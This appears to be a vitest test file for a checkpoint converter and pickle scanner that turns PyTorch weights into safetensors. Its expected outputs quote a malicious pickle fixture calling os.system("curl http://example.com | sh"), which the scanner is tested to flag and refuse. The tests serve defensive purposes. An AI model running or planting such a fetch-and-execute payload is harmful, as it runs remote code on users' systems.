import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { basename, join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { convertCheckpoint, type ScannedFile, scanCheckpoint } from '../src/convert/index.ts';
import { openModel, SafetensorsError } from '../src/index.ts';
import { gguf, header, npy } from './support/arrays.ts';
import {
  type Code,
  checkpoint,
  EVIL,
  named,
  pickle,
  py,
  tar,
  tarEntries,
  tensor,
} from './support/checkpoints.ts';
import { runCli } from './support/cli.ts';
import { thrownBy } from './support/errors.ts';
import { temporaryFolder } from './support/temporary.ts';

const root = temporaryFolder();
let count = 0;

function makeFolder(files: Readonly<Record<string, Buffer | string>> = {}): string {
  const folder = join(root, `${count++}`);
  mkdirSync(folder);
  for (const [name, data] of Object.entries(files)) writeFileSync(join(folder, name), data);
  return folder;
}

const floats = (...values: number[]) => Buffer.from(Float32Array.from(values).buffer);
const state = (...names: string[]): Code =>
  named(...names.map((name, i) => [name, tensor({ key: `${i}` })] as const));
const shard = (...names: string[]) =>
  checkpoint(
    state(...names),
    Object.fromEntries(names.map((_, i) => [i, floats(i, i + 1, names[0].length, 4)])),
  );

const FIRST = 'pytorch_model-00001-of-00002.bin';
const SECOND = 'pytorch_model-00002-of-00002.bin';
const INDEX = 'pytorch_model.bin.index.json';

function sharded(weightMap: Record<string, string> = { a: FIRST, bb: SECOND, c: SECOND }): string {
  const index = JSON.stringify({ metadata: { total_size: 48 }, weight_map: weightMap });
  return makeFolder({
    [FIRST]: shard('a'),
    [SECOND]: shard('bb', 'c'),
    [INDEX]: index,
    'training_args.bin': pickle(EVIL),
  });
}

describe('safetensors convert', () => {
  it('writes a file, and says what it left out', async () => {
    const folder = makeFolder({
      'model.pt': checkpoint(
        py.dict(
          [py.text('state_dict'), named(['w', tensor()], ['v', tensor()], ['n', py.int(7)])],
          [py.text('epoch'), py.int(3)],
        ),
      ),
    });
    const output = join(folder, 'model.safetensors');
    const { code, stdout, stderr } = await runCli([
      'convert',
      join(folder, 'model.pt'),
      '-o',
      output,
    ]);
    expect(stderr).toBe('');
    expect(stdout.split('\n')).toEqual([
      `${output}  (1 tensor, 16 B, verified, of state_dict)`,
      '  w is v',
      '  left out: n = 7',
      '  left out: epoch (see --key)',
      '',
    ]);
    expect(code).toBe(0);
    const json = await runCli(['convert', join(folder, 'model.pt'), '-o', output, '--json', '-n']);
    expect(JSON.parse(json.stdout)).toMatchObject({
      index: null,
      files: [{ output, key: 'state_dict', links: { w: 'v' }, byteLength: 16, kept: false }],
    });
  });

  it('refuses what would run something, with its name', async () => {
    const folder = makeFolder({ 'model.pt': checkpoint(named(['w', tensor()], ['x', EVIL])) });
    const output = join(folder, 'model.safetensors');
    const { code, stdout, stderr } = await runCli([
      'convert',
      join(folder, 'model.pt'),
      '-o',
      output,
    ]);
    expect(stdout).toBe('');
    expect(stderr).toMatch(
      /^error: ERR_SAFETENSORS_UNSAFE_PICKLE .*model\.pt: .*os\.system\("curl /,
    );
    expect(code).toBe(1);
    expect(existsSync(output)).toBe(false);
  });

  it('knows its options', async () => {
    const wrong = await runCli(['convert', 'x', '-o', 'y', '--dtype', 'i8']);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/bf16/);
    const nowhere = await runCli(['convert', 'x', '-o', '']);
    expect(nowhere.code).toBe(2);
    expect(nowhere.stderr).toContain('It must be a path.');
    const folder = makeFolder({ 'model.pt': checkpoint(state('module.w')) });
    const output = join(folder, 'model.safetensors');
    const args = ['--dtype', 'bf16', '--strip-prefix', 'module.', '--key', '', '--no-verify'];
    const done = await runCli(['convert', join(folder, 'model.pt'), '-o', output, ...args]);
    expect(done.stdout).toBe(`${output}  (1 tensor, 8 B)\n`);
    using model = await openModel(output);
    expect(model.info('w')).toMatchObject({ dtype: 'BF16' });
  });
});

describe('a folder', () => {
  it('is converted shard by shard, with an index, and finished shards are kept', async () => {
    const input = sharded();
    const output = join(root, `${count++}`);
    const { files, index } = await convertCheckpoint(input, output);
    expect(index).toBe(join(output, 'model.safetensors.index.json'));
    expect(files.map(({ output: path, kept }) => [path, kept])).toEqual([
      [join(output, 'model-00001-of-00002.safetensors'), false],
      [join(output, 'model-00002-of-00002.safetensors'), false],
    ]);
    {
      using model = await openModel(output);
      const found = Array.from(model, ([name, { data }]) => [name, [...data]]);
      expect(Object.fromEntries(found)).toEqual({
        a: [0, 1, 1, 4],
        bb: [0, 1, 2, 4],
        c: [1, 2, 2, 4],
      });
    }
    expect(JSON.parse(readFileSync(index ?? '', 'utf8')).metadata).toEqual({ total_size: 48 });

    // One that is right stays; one that is not the checkpoint's is written again.
    const [first, second] = files.map(({ output: path }) => path);
    const before = new Date(1e12);
    utimesSync(first, before, before);
    const bytes = readFileSync(second);
    bytes[bytes.length - 1] ^= 1;
    writeFileSync(second, bytes);
    const again = await convertCheckpoint(join(input, INDEX), output);
    expect(again.files.map(({ kept }) => kept)).toEqual([true, false]);
    expect(statSync(first).mtimeMs).toBe(before.getTime());
    using model = await openModel(output);
    expect([...model.getTensor('c').data]).toEqual([1, 2, 2, 4]);
  });

  it('is only looked at in a dry run', async () => {
    const output = join(root, `${count++}`);
    const { files, index } = await convertCheckpoint(sharded(), output, { dryRun: true });
    expect(files.length).toBe(2);
    expect(index).toBe(join(output, 'model.safetensors.index.json'));
    expect(existsSync(output)).toBe(false);
  });

  it('may have one file', async () => {
    const output = join(root, `${count++}`);
    const input = makeFolder({
      'pytorch_model.bin': shard('a'),
      'training_args.bin': pickle(EVIL),
    });
    const { files, index } = await convertCheckpoint(input, output);
    expect(files.map(({ output: path }) => path)).toEqual([join(output, 'model.safetensors')]);
    expect(index).toBeUndefined();
  });

  it.each<[string, string, () => string]>([
    [
      'INDEX_MISMATCH',
      'a tensor that the index has elsewhere',
      () => sharded({ a: SECOND, bb: SECOND, c: FIRST }),
    ],
    [
      'INDEX_MISMATCH',
      'a tensor that the shard lacks',
      () => sharded({ a: FIRST, d: FIRST, bb: SECOND, c: SECOND }),
    ],
    ['SHARD_PATH', 'a path', () => sharded({ a: '../x.bin' })],
    ['SHARD_PATH', 'two shards of one output', () => sharded({ a: 'x.bin', b: 'x.pt' })],
    ['SHARD_PATH', 'outputs that differ in case', () => sharded({ a: 'x.bin', b: 'X.bin' })],
    [
      'MALFORMED_CHECKPOINT',
      'an index without an end',
      () => {
        const folder = makeFolder();
        symlinkSync('/dev/zero', join(folder, INDEX));
        return folder;
      },
    ],
    [
      'MALFORMED_CHECKPOINT',
      'an index that keeps readers waiting',
      () => {
        const folder = makeFolder();
        execFileSync('mkfifo', [join(folder, INDEX)]);
        return folder;
      },
    ],
    ['SHARD_PATH', 'another ending', () => sharded({ a: 'x.safetensors' })],
    ['MALFORMED_CHECKPOINT', 'no names', () => makeFolder({ [INDEX]: '{"weight_map":{}}' })],
    ['HEADER_JSON', 'no JSON', () => makeFolder({ [INDEX]: '{' })],
    ['NOT_A_CHECKPOINT', 'nothing', () => makeFolder()],
    [
      'NOT_A_CHECKPOINT',
      'two models',
      () => makeFolder({ 'a.pt': shard('a'), 'b.pt': shard('b') }),
    ],
  ])('is refused with %s for %s, before anything is written', async (code, _, make) => {
    const output = join(root, `${count++}`);
    const error = await thrownBy(() => convertCheckpoint(make(), output));
    expect(error).toBeInstanceOf(SafetensorsError);
    expect(error.code).toBe(`ERR_SAFETENSORS_${code}`);
    expect(existsSync(output)).toBe(false);
  });
});

describe('errors of conversions', () => {
  // Of the working directory, which is that of other tests too.
  const fromHere = (path: string) => relative(process.cwd(), path);

  it('name files as the caller did', async () => {
    const empty = fromHere(makeFolder());
    const one = fromHere(makeFolder({ 'model.pt': shard('a') }));
    const model = join(one, 'model.pt');
    const broken = fromHere(sharded({ a: FIRST, d: FIRST, bb: SECOND, c: SECOND }));
    const calls: [string, string, string, RegExp][] = [
      [empty, 'out', empty, /expected one model of PyTorch/],
      [broken, 'out', join(broken, FIRST), /the index has/],
      [join(broken, INDEX), 'out', join(broken, FIRST), /the index has/],
      [model, join(empty, 'none', 'x'), join(empty, 'none', 'x'), /^ENOENT/],
      [model, `${empty}/`, `${empty}/`, /^EISDIR/],
      [one, model, model, /^EEXIST/],
    ];
    for (const [input, output, path, message] of calls) {
      const error = await thrownBy(() => convertCheckpoint(input, output));
      expect(error).toMatchObject({ path, message: expect.stringMatching(message) });
      expect(error.message).toContain(path);
      expect(error.message).not.toContain(process.cwd());
    }
    const error = await thrownBy(() => convertCheckpoint(model, `./${model}`));
    expect(error.message).toMatch(/^output: expected another file/);
    expect(error.message.endsWith(`found "./${model}"`)).toBe(true);
  });
});

describe('safetensors scan', () => {
  const files = {
    'safe.bin': shard('a'),
    'unknown.bin': checkpoint(named(['x', py.call(py.global('argparse', 'Namespace'))])),
    'config.json': '{"a": 1}',
    'readme.md': '(see the documentation)\n',
    'notes.txt': pickle(EVIL),
  };

  it('gives a verdict, and an exit code for the worst', async () => {
    const folder = makeFolder(files);
    const safe = await runCli(['scan', join(folder, 'safe.bin')]);
    expect(safe.stdout).toMatch(
      /safe\.bin {2}safe to convert\n {2}names:\n {4}torch\._utils\._rebuild_tensor_v2\n/,
    );
    expect(safe.code).toBe(0);
    const unknown = await runCli(['scan', join(folder, 'unknown.bin')]);
    expect(unknown.stdout).toMatch(
      /unknown\n[\s\S]*argparse\.Namespace {2}not on the list\n {2}would call:\n {4}argparse\.Namespace\(\) {2}at byte/,
    );
    expect(unknown.code).toBe(1);
    const all = await runCli(['scan', folder]);
    expect(all.stdout).toMatch(/notes\.txt {2}DANGEROUS: it runs commands\n/);
    expect(all.stdout).toMatch(
      /os\.system\("curl http:\/\/example\.com \| sh"\) {2}at byte \d+: it runs commands/,
    );
    expect(all.stdout).toMatch(/\n3 checkpoints\n$/);
    expect(all.code).toBe(3);
  });

  it('says in its help which files of a folder it looks at, and does', async () => {
    const { stdout } = await runCli(['scan', '--help']);
    expect(stdout.replace(/\s+/g, ' ')).toContain(
      'begins like a zip or tar file, a pickle, a GGUF file or an array of numpy, or is called as a checkpoint is',
    );
    const folder = makeFolder({
      zip: checkpoint(state('w')),
      tar: tar(tarEntries()),
      pickle: pickle(py.none),
      gguf: gguf(),
      numpy: npy(header("'<f4'", '(4,)'), Buffer.alloc(16)),
      'text.bin': Buffer.from('text'),
      text: Buffer.from('text'),
    });
    const { files } = JSON.parse((await runCli(['scan', folder, '--json'])).stdout);
    const found = files.map(({ path, verdict }: ScannedFile) => [basename(path), verdict]);
    expect(Object.fromEntries(found)).toEqual({
      zip: 'safe',
      tar: 'safe',
      pickle: 'safe',
      gguf: 'safe',
      numpy: 'safe',
      'text.bin': 'unknown',
    });
  });

  it('prints JSON', async () => {
    const folder = makeFolder({ 'model.bin': pickle(EVIL).subarray(0, -1) });
    const { stdout, code } = await runCli(['scan', folder, '--json']);
    expect(JSON.parse(stdout)).toMatchObject({
      files: [
        {
          verdict: 'dangerous',
          globals: [{ name: 'os.system', listed: false, danger: 'it runs commands' }],
          calls: [{ call: 'os.system("curl http://example.com | sh")' }],
          problem: { code: 'ERR_SAFETENSORS_MALFORMED_CHECKPOINT' },
        },
      ],
    });
    expect(code).toBe(3);
  });

  it('ends with a signal, and fails for what is not there', async () => {
    const reason = new Error('enough');
    const aborted = scanCheckpoint(makeFolder(files), { signal: AbortSignal.abort(reason) });
    expect(await thrownBy(() => aborted)).toBe(reason);
    const { code, stderr } = await runCli(['scan', join(root, 'none')]);
    expect(stderr).toMatch(/^error: ENOENT /);
    expect(code).toBe(1);
    for (const way of [
      scanCheckpoint,
      (path: string) => convertCheckpoint(path, join(root, 'x')),
    ]) {
      // As the caller named it.
      expect(await thrownBy(() => way('none.pt'))).toMatchObject({
        code: 'ENOENT',
        path: 'none.pt',
      });
    }
  });
});
